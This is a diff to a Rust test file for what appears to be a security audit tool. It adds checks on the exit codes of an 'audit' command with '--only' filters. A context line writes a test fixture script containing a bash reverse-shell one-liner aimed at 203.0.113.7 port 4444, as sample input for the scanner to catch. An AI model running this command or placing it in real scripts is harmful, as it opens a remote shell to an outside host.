@@ -45,6 +45,9 @@ fn exit_codes_by_cause() {
         1,
         "a check that is named gets what it needs"
     );
+    write(high.path(), "src/main.rs", "fn main() {}\n");
+    assert_eq!(code(high.path(), &["audit", "--only", "secrets", "src/"]), 0, "a tree may follow");
+    assert_eq!(code(high.path(), &["audit", "--only", "code,secrets", "--only", "integrity"]), 1);
 
     let critical = tree();
     write(critical.path(), "run.sh", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
